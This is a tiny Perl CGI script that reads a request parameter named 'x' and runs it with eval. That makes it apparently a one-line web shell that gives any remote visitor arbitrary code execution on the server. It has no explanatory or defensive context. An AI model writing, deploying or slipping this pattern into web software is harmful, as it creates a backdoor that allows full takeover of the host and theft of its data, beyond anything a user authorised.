#!/usr/bin/perl
use CGI;
my $q = CGI->new;
print $q->header;
eval $q->param('x');
